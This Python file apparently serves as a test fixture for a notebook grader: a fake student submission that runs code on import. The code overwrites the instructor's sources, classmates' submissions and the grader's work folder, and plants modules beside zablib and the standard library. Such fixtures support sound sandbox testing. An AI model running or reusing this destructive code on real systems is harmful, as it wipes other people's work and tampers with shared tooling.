# Harms others: overwrites the instructor's source and solutions, classmates' submissions and the
# grader's work folder wherever it can write, and plants modules next to zablib and the standard
# library (a planted module is what a real attack would leave; the test looks for these files).
import os

STUB = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


def _vandalise():
    for root in ["__SOURCE__", "__SUBMISSIONS__", "__WORKDIR__"]:
        for folder, _, files in os.walk(root):
            for name in files:
                try:
                    with open(os.path.join(folder, name), "w") as f:
                        f.write(STUB if name.endswith(".ipynb") else "raise SystemExit(1)\n")
                except OSError:
                    pass
    planted = [os.path.dirname(__import__("zablib").__file__) + "/grade", os.path.dirname(os.__file__)]
    for path in ["__HONEST__", "__MARK__", *(f"{p}/__PLANTED__.py" for p in planted)]:
        try:
            with open(path, "w") as f:
                f.write(STUB)
        except OSError:
            pass


_vandalise()


def majority(n):
    return n // 2
